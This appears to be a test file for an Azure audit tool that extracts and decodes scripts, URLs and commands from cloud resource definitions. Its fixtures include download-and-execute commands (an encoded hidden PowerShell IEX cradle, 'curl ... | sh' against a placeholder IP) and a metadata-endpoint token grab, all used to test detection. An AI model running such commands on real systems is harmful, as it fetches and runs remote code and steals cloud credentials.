/** Payload recovery: where each resource type keeps what it runs (field names from the REST specs). */
import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { derivePayloads } from "../../src/azure/enrich/payloads.js";
import { classify } from "../../src/azure/normalize/index.js";
import { toFunctionApp } from "../../src/azure/normalize/web.js";
import { type AuditRecord, MAX_PAYLOAD_CHARS } from "../../src/model/records.js";

const SUB = "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg/providers";

function payloadsOf(value: unknown) {
  const c = classify(value, { location: "t" });
  if (!("records" in c)) throw new Error(JSON.stringify(c));
  return c.records
    .flatMap((r: AuditRecord) => derivePayloads(r))
    .map((p) => ({
      kind: p.payloadKind,
      path: p.path,
      content: p.content,
      vector: p.vector,
      techniques: p.vectorTechniques,
    }));
}

const res = (type: string, name: string, properties: unknown) => ({
  id: `${SUB}/${type.split("/")[0]}/${type.split("/").slice(1).join("/x/")}/${name}`,
  name,
  type,
  properties,
});

describe("derivePayloads", () => {
  it("managed run command: script, scriptUri, commandId", () => {
    const p = payloadsOf(
      res("Microsoft.Compute/virtualMachines/runCommands", "rc", {
        source: { script: "id", scriptUri: "https://x.example.com/a.sh" },
      }),
    );
    expect(p.map((x) => [x.kind, x.path, x.content])).toEqual([
      ["script", "properties.source.script", "id"],
      ["url", "properties.source.scriptUri", "https://x.example.com/a.sh"],
    ]);
    expect(p[0]?.techniques).toEqual(["T1651"]);
  });
  it("Linux Custom Script: base64 and gzip+base64 `script` settings are decoded", () => {
    const plain = Buffer.from("echo plain").toString("base64");
    const gz = gzipSync(Buffer.from("echo zipped")).toString("base64");
    for (const [script, expected] of [
      [plain, "echo plain"],
      [gz, "echo zipped"],
    ]) {
      const p = payloadsOf(
        res("Microsoft.Compute/virtualMachines/extensions", "cse", {
          publisher: "Microsoft.Azure.Extensions",
          type: "CustomScript",
          settings: { script, fileUris: ["https://x.example.com/a.sh"] },
        }),
      );
      expect(p.find((x) => x.kind === "script")?.content).toBe(expected);
      expect(p.find((x) => x.kind === "url")?.path).toBe("properties.settings.fileUris[0]");
    }
  });
  it("container group: images and commands of containers and init containers", () => {
    const p = payloadsOf(
      res("Microsoft.ContainerInstance/containerGroups", "cg", {
        containers: [{ name: "a", properties: { image: "r.example.com/a:1", command: ["/bin/sh", "-c", "run"] } }],
        initContainers: [{ name: "i", properties: { image: "r.example.com/i:1" } }],
      }),
    );
    expect(p.map((x) => x.content)).toEqual(["r.example.com/a:1", "/bin/sh -c run", "r.example.com/i:1"]);
    expect(p[0]?.techniques).toEqual(["T1610"]);
  });
  it("deployment script, Container App, runbook, gallery application, AVS, ACR task, site container", () => {
    expect(
      payloadsOf(
        res("Microsoft.Resources/deploymentScripts", "ds", {
          scriptContent: "az group list",
          primaryScriptUri: "https://x.example.com/s.ps1",
        }),
      ).map((x) => x.kind),
    ).toEqual(["script", "url"]);
    expect(
      payloadsOf(
        res("Microsoft.App/jobs", "j", {
          template: { containers: [{ image: "img:1", command: ["run"], args: ["--x"] }] },
        }),
      ).map((x) => x.content),
    ).toEqual(["img:1", "run --x"]);
    expect(
      payloadsOf(
        res("Microsoft.Automation/automationAccounts/runbooks", "rb", {
          publishContentLink: { uri: "https://x.example.com/rb.ps1" },
        }),
      )[0]?.kind,
    ).toBe("url");
    const gallery = payloadsOf(
      res("Microsoft.Compute/galleries/applications/versions", "1.0.0", {
        publishingProfile: {
          manageActions: { install: "install.cmd", remove: "remove.cmd" },
          source: { mediaLink: "https://x.blob.core.windows.net/p/app.zip" },
        },
      }),
    );
    expect(gallery.map((x) => x.content)).toEqual([
      "install.cmd",
      "remove.cmd",
      "https://x.blob.core.windows.net/p/app.zip",
    ]);
    expect(
      payloadsOf(
        res("Microsoft.AVS/privateClouds/scriptExecutions", "se", {
          scriptCmdletId: "/x/scriptPackages/p/scriptCmdlets/New-LocalUser",
          parameters: [{ name: "Name", value: "x" }],
        }),
      )[0]?.content,
    ).toBe("New-LocalUser -Name x");
    const task = payloadsOf(
      res("Microsoft.ContainerRegistry/registries/tasks", "t", {
        step: {
          type: "EncodedTask",
          encodedTaskContent: Buffer.from("steps:\n  - cmd: curl x | sh").toString("base64"),
        },
      }),
    );
    expect(task[0]?.content).toContain("curl x | sh");
    expect(
      payloadsOf(
        res("Microsoft.Web/sites/sitecontainers", "side", { image: "r.example.com/s:1", startUpCommand: "run.sh" }),
      ).map((x) => x.kind),
    ).toEqual(["image", "command"]);
  });
  it("scale set model: the extension profile's settings and userData", () => {
    const p = payloadsOf(
      res("Microsoft.Compute/virtualMachineScaleSets", "ss", {
        virtualMachineProfile: {
          extensionProfile: {
            extensions: [
              {
                name: "e",
                properties: {
                  publisher: "Microsoft.Compute",
                  type: "CustomScriptExtension",
                  settings: { commandToExecute: "powershell x" },
                },
              },
            ],
          },
          userData: Buffer.from("#!/bin/sh\nid").toString("base64"),
        },
      }),
    );
    expect(p.map((x) => [x.path, x.content])).toEqual([
      [
        "properties.virtualMachineProfile.extensionProfile.extensions[0].properties.settings.commandToExecute",
        "powershell x",
      ],
      ["properties.virtualMachineProfile.userData", "#!/bin/sh\nid"],
    ]);
  });
  it("function app: package URL, startup command, container image; never WEBSITE_RUN_FROM_PACKAGE=1", () => {
    const site = (settings: Record<string, string>) => ({
      id: `${SUB}/Microsoft.Web/sites/f`,
      name: "f",
      type: "Microsoft.Web/sites",
      kind: "functionapp,linux",
      properties: {
        siteConfig: {
          linuxFxVersion: "DOCKER|r.example.com/f:1",
          appCommandLine: "node x.js",
          appSettings: Object.entries(settings).map(([name, value]) => ({ name, value })),
        },
      },
    });
    const of = (settings: Record<string, string>) => {
      const app = toFunctionApp(site(settings), undefined, { shape: "site", location: "t" });
      return app ? derivePayloads(app).map((x) => [x.payloadKind, x.content]) : [];
    };
    expect(of({ WEBSITE_RUN_FROM_PACKAGE: "https://x.example.net/p.zip" })).toEqual([
      ["url", "https://x.example.net/p.zip"],
      ["command", "node x.js"],
      ["image", "r.example.com/f:1"],
    ]);
    expect(of({ WEBSITE_RUN_FROM_PACKAGE: "1" }).map(([k]) => k)).toEqual(["command", "image"]);
  });
  it("caps attacker-sized payloads and says so", () => {
    const p = derivePayloads({
      kind: "resource",
      id: `${SUB}/Microsoft.Resources/deploymentScripts/ds`,
      name: "ds",
      type: "Microsoft.Resources/deploymentScripts",
      typeLower: "microsoft.resources/deploymentscripts",
      properties: { scriptContent: "x".repeat(MAX_PAYLOAD_CHARS + 10) },
      origin: { shape: "t", location: "t" },
      raw: {},
    });
    expect(p[0]?.content.length).toBe(MAX_PAYLOAD_CHARS);
    expect(p[0]?.truncated).toBe(true);
  });
});

describe("derivePayloads: workflow and pipeline-style resources", () => {
  it("Logic App: HTTP actions at any depth of the definition", () => {
    const p = payloadsOf(
      res("Microsoft.Logic/workflows", "wf", {
        definition: {
          actions: {
            Get_token: {
              type: "Http",
              inputs: { method: "GET", uri: "http://169.254.169.254/metadata/identity/oauth2/token" },
            },
            Scope: { type: "Scope", actions: { Post: { type: "Http", inputs: { uri: "https://x.example.net/in" } } } },
            If: {
              type: "If",
              actions: {},
              else: { actions: { Other: { type: "Http", inputs: { uri: "https://y.example.net" } } } },
            },
            Compose: { type: "Compose", inputs: "not a url" },
          },
        },
      }),
    );
    expect(p.map((x) => x.content)).toEqual([
      "http://169.254.169.254/metadata/identity/oauth2/token",
      "https://x.example.net/in",
      "https://y.example.net",
    ]);
    expect(p[1]?.path).toBe("properties.definition.actions.Scope.actions.Post.inputs.uri");
  });
  it("Image Builder customizers, Batch start task, HDInsight script actions, Automation modules", () => {
    expect(
      payloadsOf(
        res("Microsoft.VirtualMachineImages/imageTemplates", "it", {
          customize: [
            { type: "Shell", inline: ["apt-get update", "curl x | sh"] },
            { type: "PowerShell", scriptUri: "https://x.example.com/a.ps1" },
          ],
        }),
      ).map((x) => x.content),
    ).toEqual(["apt-get update\ncurl x | sh", "https://x.example.com/a.ps1"]);
    expect(
      payloadsOf(
        res("Microsoft.Batch/batchAccounts/pools", "p", {
          startTask: { commandLine: "/bin/sh -c 'run'", resourceFiles: [{ httpUrl: "https://x.example.com/f" }] },
        }),
      ).map((x) => x.kind),
    ).toEqual(["command", "url"]);
    expect(
      payloadsOf(
        res("Microsoft.HDInsight/clusters", "h", {
          computeProfile: {
            roles: [{ name: "headnode", scriptActions: [{ name: "s", uri: "https://x.example.com/s.sh" }] }],
          },
        }),
      )[0]?.content,
    ).toBe("https://x.example.com/s.sh");
    expect(
      payloadsOf(
        res("Microsoft.Automation/automationAccounts/modules", "m", {
          contentLink: { uri: "https://x.example.com/m.zip" },
        }),
      )[0]?.kind,
    ).toBe("url");
  });
});

describe("derivePayloads: encoded commands are decoded into payloads of their own", () => {
  const ext = (cmd: string) =>
    res("Microsoft.Compute/virtualMachines/extensions", "cse", {
      publisher: "Microsoft.Compute",
      type: "CustomScriptExtension",
      settings: { commandToExecute: cmd },
    });
  it("PowerShell -EncodedCommand (UTF-16LE), with any of its spellings", () => {
    const inner = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
    const b64 = Buffer.from(inner, "utf16le").toString("base64");
    for (const flag of ["-enc", "-EncodedCommand", "/e", "-ec", "\u2013EnCoDeD"]) {
      const p = payloadsOf(ext(`powershell.exe -NoP -W Hidden ${flag} ${b64}`));
      const decoded = p.find((x) => x.path.endsWith("(decoded -EncodedCommand)"));
      expect(decoded?.content, flag).toBe(inner);
      expect(decoded?.kind).toBe("script");
    }
  });
  it("echo <base64> | base64 -d, and nested encodings", () => {
    const inner = "curl -fsSL http://198.51.100.23/s2.sh | sh";
    const once = Buffer.from(inner).toString("base64");
    const twice = Buffer.from(`echo ${once} | base64 -d | sh`).toString("base64");
    const p = payloadsOf(
      res("Microsoft.Compute/virtualMachines/runCommands", "rc", {
        source: { script: `echo ${twice} | base64 --decode | bash` },
      }),
    );
    expect(p.map((x) => x.content)).toContain(inner);
  });
  it("leaves ordinary text and binary-looking base64 alone", () => {
    const p = payloadsOf(ext("powershell -ExecutionPolicy Bypass -File install.ps1 -Environment production"));
    expect(p).toHaveLength(1);
    const bin = Buffer.from(Array.from({ length: 64 }, (_, i) => (i * 37) % 256)).toString("base64");
    expect(payloadsOf(ext(`echo ${bin} | base64 -d > /tmp/blob`))).toHaveLength(1);
  });
});

describe("derivePayloads: files from image layers", () => {
  const layer = (n: number) => `sha256:${String(n).repeat(64)}`;
  const envelope = (files: unknown[]) => ({
    registry: "acr1.azurecr.io",
    repository: "tools/backup",
    digest: layer(5),
    manifest: {
      schemaVersion: 2,
      mediaType: "application/vnd.oci.image.manifest.v1+json",
      layers: [
        { mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", size: 29_000_000, digest: layer(7) },
        { mediaType: "application/vnd.oci.image.layer.v1.tar+gzip", size: 412, digest: layer(8) },
      ],
    },
    files,
  });

  it("each file is a script payload of the image, placed by its layer's index, T1204.003", () => {
    const c = classify(
      envelope([
        { layer: layer(8), path: "/etc/cron.d/sync", content: "* * * * * root /bin/true\n" },
        { layer: layer(9), path: "/etc/profile.d/x.sh", content: "umask 027\n", truncated: true },
        { layer: layer(8), path: "/etc/cron.d/empty", content: "  \n" },
        { layer: layer(8), path: "/etc/cron.d/no-content" },
      ]),
      { location: "t" },
    );
    if (!("records" in c)) throw new Error(JSON.stringify(c));
    const ps = c.records.flatMap((r: AuditRecord) => derivePayloads(r));
    expect(ps.map((p) => [p.payloadKind, p.path, p.truncated, p.source.kind, p.vectorTechniques])).toEqual([
      ["script", "layers[1]:/etc/cron.d/sync", false, "containerImage", ["T1204.003"]],
      // A layer the manifest does not list is named by its digest; a file cut by the reader stays marked.
      ["script", `layer ${layer(9)}:/etc/profile.d/x.sh`, true, "containerImage", ["T1204.003"]],
    ]);
    expect(ps[0]?.source.id).toBe(`acr1.azurecr.io/tools/backup@${layer(5)}`);
  });

  it("caps a file's content from a snapshot at MAX_PAYLOAD_CHARS", () => {
    const [p] = payloadsOf(
      envelope([{ layer: layer(8), path: "/etc/crontab", content: "x".repeat(MAX_PAYLOAD_CHARS + 5) }]),
    );
    expect(p?.content.length).toBe(MAX_PAYLOAD_CHARS);
  });
});
